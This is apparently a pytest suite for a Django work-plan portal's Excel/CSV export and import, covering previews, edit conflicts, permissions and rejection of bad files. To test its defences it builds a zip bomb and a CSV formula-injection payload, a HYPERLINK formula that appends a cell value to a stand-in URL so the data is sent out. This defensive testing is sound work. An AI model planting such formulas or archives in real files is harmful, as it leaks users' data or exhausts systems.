"""Work plans to Excel and back: the MAWP survives an unchanged round trip, an edited workbook applies exactly its
edits after a preview, and each bad workbook is refused with reasons and changes nothing."""

import io
import uuid
import zipfile

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from groups.models import Person
from tests.factories import make_person
from workplans import spreadsheets
from workplans.models import Activity, WorkPlan, WorkPlanImport


def record_state(plan):
    return sorted(
        Activity.objects.filter(output__stream__workplan=plan).values_list(
            "pk", "revision", "number", "description", "timeframe", "status", "estimated_cost", "output_id"
        )
    )


@pytest.fixture
def mawp(gmg_record):
    return WorkPlan.objects.get(slug="mawp-2013-2015")


@pytest.fixture
def staff(db):
    return make_person("staff", role=Person.Role.SUPPORT)


def edit(data: bytes, change) -> bytes:
    book = load_workbook(io.BytesIO(data))
    change(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def columns(sheet):
    return {cell.value: cell.column for cell in sheet[1]}


def test_the_export_lays_the_plan_out_as_the_gmgs_tables(mawp):
    book = load_workbook(io.BytesIO(spreadsheets.export_xlsx(mawp)))
    streams = list(mawp.streams.order_by("position"))
    assert book.sheetnames[: len(streams)] == [spreadsheets.sheet_title(s) for s in streams]
    sheet = book.worksheets[0]
    assert [c.value for c in sheet[1]] == spreadsheets.COLUMNS
    assert sheet.column_dimensions["L"].hidden and sheet.column_dimensions["M"].hidden
    assert book[spreadsheets.MANIFEST].sheet_state == "hidden"
    rows = sum(ws.max_row - 1 for ws in book.worksheets[: len(streams)])
    assert rows == Activity.objects.filter(output__stream__workplan=mawp).count()


def test_an_unchanged_round_trip_changes_nothing(mawp):
    before = record_state(mawp)
    preview = spreadsheets.preview_import(mawp, spreadsheets.export_xlsx(mawp))
    assert preview.errors == [] and preview.is_empty
    assert record_state(mawp) == before


def test_an_edited_workbook_applies_exactly_its_edits(mawp, staff):
    data = spreadsheets.export_xlsx(mawp)
    book = load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    col = columns(sheet)
    changed_id = sheet.cell(row=2, column=col["Id"]).value
    removed_id = sheet.cell(row=3, column=col["Id"]).value
    output_text = sheet.cell(row=2, column=col["Output"]).value
    year = sheet.cell(row=2, column=col["Year"]).value
    untouched = record_state(mawp)

    def change(book):
        sheet = book.worksheets[0]
        sheet.cell(row=2, column=col["Status"]).value = "Completed"
        sheet.cell(row=2, column=col["Cost"]).value = 12500
        sheet.cell(row=2, column=col["Currency"]).value = "USD"
        sheet.delete_rows(3)
        sheet.append(
            [year, output_text, "9.9", "A new side event", "October 2014", "IOM", "ILO, UNHCR", "", None, "", "Planned"]
        )

    preview = spreadsheets.preview_import(mawp, edit(data, change))
    assert preview.errors == []
    assert [r.label for r in preview.added] == ["9.9 A new side event"]
    assert [r.activity.pk for r in preview.changed] == [changed_id]
    assert {c[0] for c in preview.changed[0].changes} == {"Status", "Cost", "Currency"}
    assert [a.pk for a in preview.removed] == [removed_id]
    assert record_state(mawp) == untouched, "a preview changed the record"

    assert spreadsheets.apply_import(preview, user=staff) == {"added": 1, "changed": 1, "removed": 1}
    changed = Activity.objects.get(pk=changed_id)
    assert (changed.status, changed.estimated_cost, changed.currency) == ("completed", 12500, "USD")
    assert not Activity.objects.filter(pk=removed_id).exists()
    new = Activity.objects.get(output__stream__workplan=mawp, number="9.9")
    assert [a.acronym for a in new.lead_agencies.all()] == ["IOM"]
    assert sorted(a.acronym for a in new.partners.all()) == ["ILO", "UNHCR"]
    assert (new.starts_on.isoformat(), new.ends_on.isoformat()) == ("2014-10-01", "2014-10-31")
    others = [row for row in record_state(mawp) if row[0] not in {changed_id, new.pk}]
    assert others == [row for row in untouched if row[0] not in {changed_id, removed_id}]


def test_an_activity_changed_in_the_portal_since_the_export_is_not_overwritten(mawp, staff):
    data = spreadsheets.export_xlsx(mawp)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    col = columns(sheet)
    activity = Activity.objects.get(pk=sheet.cell(row=2, column=col["Id"]).value)
    Activity.objects.filter(pk=activity.pk).update(description="Edited in the portal", revision=activity.revision + 1)

    def change(book):
        book.worksheets[0].cell(row=2, column=col["Status"]).value = "Delayed"

    preview = spreadsheets.preview_import(mawp, edit(data, change))
    assert any("changed in the portal since this file was exported" in e.message for e in preview.errors)
    with pytest.raises(spreadsheets.ImportConflict):
        spreadsheets.apply_import(preview, user=staff)
    assert Activity.objects.get(pk=activity.pk).description == "Edited in the portal"


def test_an_activity_added_in_the_portal_after_the_export_is_not_removed(mawp):
    data = spreadsheets.export_xlsx(mawp)
    output = Activity.objects.filter(output__stream__workplan=mawp).first().output
    newer = Activity.objects.create(output=output, position=99, description="Added after the export")
    preview = spreadsheets.preview_import(mawp, data)
    assert preview.errors == [] and preview.is_empty
    assert Activity.objects.filter(pk=newer.pk).exists()


def bad_rows(mawp, change):
    data = edit(spreadsheets.export_xlsx(mawp), change)
    before = record_state(mawp)
    preview = spreadsheets.preview_import(mawp, data)
    assert record_state(mawp) == before
    return [e.message for e in preview.errors]


def test_rows_with_problems_are_told_in_plain_words(mawp):
    def change(book):
        sheet = book.worksheets[0]
        col = columns(sheet)
        sheet.cell(row=2, column=col["Lead"]).value = "IOM, Acme Corp"
        sheet.cell(row=3, column=col["Timeframe"]).value = "when pigs fly"
        sheet.cell(row=4, column=col["Status"]).value = "Half done"
        sheet.cell(row=5, column=col["Cost"]).value = "lots"

    messages = bad_rows(mawp, change)
    assert any("unknown agency “Acme Corp”" in m for m in messages)
    assert any("the timeframe “when pigs fly” cannot be read" in m for m in messages)
    assert any("the status “Half done” is not one of" in m for m in messages)
    assert any("the cost “lots” is not an amount" in m for m in messages)


def refused(mawp, data) -> list[str]:
    before = record_state(mawp)
    with pytest.raises(spreadsheets.SpreadsheetRefused) as refusal:
        spreadsheets.preview_import(mawp, data)
    assert record_state(mawp) == before
    return refusal.value.reasons


def test_a_missing_column_is_refused(mawp):
    def change(book):
        book.worksheets[0].delete_cols(spreadsheets.COLUMNS.index("Timeframe") + 1)

    assert any("has no column “Timeframe”" in r for r in refused(mawp, edit(spreadsheets.export_xlsx(mawp), change)))


def test_a_formula_is_refused(mawp):
    def change(book):
        book.worksheets[0]["I2"] = "=1000*75"

    assert any("cell I2 holds a formula" in r for r in refused(mawp, edit(spreadsheets.export_xlsx(mawp), change)))


def test_a_file_that_is_not_a_spreadsheet_is_refused(mawp):
    assert "not an Excel workbook" in refused(mawp, b"%PDF-1.4 a report")[0]
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("notes.txt", "hello")
    assert "holds no workbook" in refused(mawp, archive.getvalue())[0]


def test_a_fifty_megabyte_file_is_refused(mawp):
    assert "50 MB" in refused(mawp, b"PK\x03\x04" + b"\0" * (50 * 1024 * 1024))[0]


def test_a_zip_bomb_is_refused_before_it_is_unpacked(mawp):
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * (200 * 1024 * 1024))
    assert len(bomb.getvalue()) < 1024 * 1024
    assert "unpacks to 200 MB" in refused(mawp, bomb.getvalue())[0]


def test_a_workbook_of_another_shape_is_refused(mawp):
    book = Workbook()
    book.active.append(["Name", "Amount"])
    out = io.BytesIO()
    book.save(out)
    assert "has no column" in refused(mawp, out.getvalue())[0]


# -- the pages ---------------------------------------------------------------------------------------------------


def upload(client, plan, data, name="plan.xlsx"):
    file = io.BytesIO(data)
    file.name = name
    return client.post(reverse("workplans:workplan_import", args=[plan.slug]), {"workbook": file})


def test_the_editor_exports_previews_and_confirms_once(client, mawp, staff):
    client.force_login(staff)
    page = client.get(mawp.get_absolute_url()).text
    assert reverse("workplans:workplan_export_xlsx", args=[mawp.slug]) in page
    exported = client.get(reverse("workplans:workplan_export_xlsx", args=[mawp.slug]))
    assert exported["Content-Type"].startswith("application/vnd.openxmlformats")
    data = b"".join(exported.streaming_content) if exported.streaming else exported.content

    def change(book):
        book.worksheets[0]["K2"] = "Delayed"

    response = upload(client, mawp, edit(data, change))
    assert response.status_code == 200 and "Apply these changes" in response.text
    assert set(spreadsheets.STATUS_BY_WORD) >= {"delayed"}
    imported = WorkPlanImport.objects.get()
    activity_id = load_workbook(io.BytesIO(data)).worksheets[0]["L2"].value
    assert Activity.objects.get(pk=activity_id).status != "delayed", "applied before confirmation"
    apply_url = reverse("workplans:workplan_import_apply", args=[imported.token])
    first = client.post(apply_url, follow=True)
    assert "Applied: 0 activities added, 1 changed, 0 removed." in first.text
    revision = Activity.objects.get(pk=activity_id).revision
    second = client.post(apply_url, follow=True)
    assert "already applied" in second.text
    assert Activity.objects.get(pk=activity_id).revision == revision


def test_a_confirmation_after_a_portal_edit_applies_nothing(client, mawp, staff):
    client.force_login(staff)
    data = spreadsheets.export_xlsx(mawp)

    def change(book):
        book.worksheets[0]["K2"] = "Delayed"
        book.worksheets[0]["K3"] = "Cancelled"

    upload(client, mawp, edit(data, change))
    second_id = load_workbook(io.BytesIO(data)).worksheets[0]["L3"].value
    Activity.objects.filter(pk=second_id).update(note="meanwhile", revision=999)
    before = record_state(mawp)
    response = client.post(
        reverse("workplans:workplan_import_apply", args=[WorkPlanImport.objects.get().token]), follow=True
    )
    assert "Nothing was applied" in response.text
    assert record_state(mawp) == before
    assert WorkPlanImport.objects.get().applied_at is None


def test_a_bad_file_on_the_page_is_refused_with_reasons(client, mawp, staff):
    client.force_login(staff)
    response = upload(client, mawp, b"not a spreadsheet", name="plan.xlsx")
    assert response.status_code == 400 and "not an Excel workbook" in response.text
    assert not WorkPlanImport.objects.exists()


@pytest.mark.parametrize(
    ("role", "allowed"),
    [("support", True), ("focal_point", False), ("viewer", False), ("anonymous", False)],
)
def test_only_the_plans_editors_export_and_import(client, mawp, role, allowed):
    if role != "anonymous":
        client.force_login(make_person(f"p-{role}", role=role))
    data = spreadsheets.export_xlsx(mawp)
    urls = [
        ("get", reverse("workplans:workplan_export_xlsx", args=[mawp.slug])),
        ("get", reverse("workplans:workplan_export_csv", args=[mawp.slug])),
        ("get", reverse("workplans:workplan_import", args=[mawp.slug])),
    ]
    for method, url in urls:
        response = getattr(client, method)(url)
        expected = 200 if allowed else (302 if role == "anonymous" else 403)
        assert response.status_code == expected, url
    response = upload(client, mawp, data)
    assert response.status_code == (200 if allowed else 302 if role == "anonymous" else 403)
    staff = make_person("uploader", role=Person.Role.SUPPORT)
    pending = WorkPlanImport.objects.create(workplan=mawp, token=uuid.uuid4(), file_name="x.xlsx", uploaded_by=staff)
    before = record_state(mawp)
    response = client.post(reverse("workplans:workplan_import_apply", args=[pending.token]))
    assert response.status_code in ((302,) if role == "anonymous" else (403, 404))
    assert record_state(mawp) == before


def test_the_commands_preview_and_apply(mawp, tmp_path, capsys):
    path = tmp_path / "mawp.xlsx"
    call_command("export_workplan", "mawp-2013-2015", "--output", str(path))

    def change(book):
        book.worksheets[0]["K2"] = "Cancelled"

    path.write_bytes(edit(path.read_bytes(), change))
    before = record_state(mawp)
    call_command("import_workplan", "mawp-2013-2015", str(path))
    assert "change " in capsys.readouterr().out and record_state(mawp) == before
    call_command("import_workplan", "mawp-2013-2015", str(path), "--apply")
    assert "Applied: 0 added, 1 changed, 0 removed." in capsys.readouterr().out
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(b"nope")
    with pytest.raises(CommandError, match="not an Excel workbook"):
        call_command("import_workplan", "mawp-2013-2015", str(bad))


# -- text that looks like a formula, and the CSV file ------------------------------------------------------------

FORMULA_LIKE = '=HYPERLINK("http://x/?"&A1,"Click")'


@pytest.fixture
def hostile(mawp):
    """An activity whose description and funding source a spreadsheet would run as formulas."""
    activity = Activity.objects.filter(output__stream__workplan=mawp).order_by("pk").first()
    Activity.objects.filter(pk=activity.pk).update(description=FORMULA_LIKE, funding_source="@ILO -2 +3")
    return activity


def test_a_description_that_looks_like_a_formula_is_exported_as_text_and_imports_back_unchanged(mawp, hostile):
    data = spreadsheets.export_xlsx(mawp)
    cells = [c for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row]
    (cell,) = [c for c in cells if c.value == FORMULA_LIKE]
    assert cell.data_type == "s"  # text, not a formula
    assert not [c for c in cells if c.data_type == "f"]
    preview = spreadsheets.preview_import(mawp, data)
    assert preview.errors == [] and preview.is_empty


def test_the_csv_is_utf8_with_a_bom_and_keeps_formulas_from_running(mawp, hostile):
    text = spreadsheets.export_csv(mawp)
    assert text.startswith("\ufeffStream,")
    assert "May – September 2013" in text  # the MAWP's own en dash, read right through the BOM
    assert f"'{FORMULA_LIKE}".replace('"', '""') in text and "'@ILO -2 +3" in text


@pytest.mark.parametrize("bom", [True, False])
def test_the_exported_csv_imports_back_unchanged_with_or_without_its_bom(mawp, hostile, bom):
    data = spreadsheets.export_csv(mawp).encode()
    if not bom:
        data = data.removeprefix("\ufeff".encode())
    before = record_state(mawp)
    preview = spreadsheets.preview_import(mawp, data)
    assert preview.errors == [] and preview.is_empty
    assert record_state(mawp) == before


def test_an_edited_csv_changes_its_row_and_removes_nothing(mawp, hostile):
    import csv

    rows = list(csv.reader(io.StringIO(spreadsheets.export_csv(mawp).removeprefix("\ufeff"))))
    header = rows[0]
    rows[1][header.index("Activities")] = "'=A new description"
    removed = rows.pop(2)
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    preview = spreadsheets.preview_import(mawp, out.getvalue().encode("utf-8-sig"))
    assert preview.errors == [] and preview.removed == []
    (change,) = preview.changed
    assert change.values["description"] == "=A new description"
    assert removed[header.index("Id")] not in {str(c.activity.pk) for c in preview.changed}


def test_a_csv_not_in_utf8_is_refused_with_its_reason(mawp):
    data = (
        spreadsheets.export_csv(mawp).removeprefix("\ufeff").encode("utf-8").replace("–".encode(), "–".encode("cp1252"))
    )
    assert "not in UTF-8" in refused(mawp, data)[0]
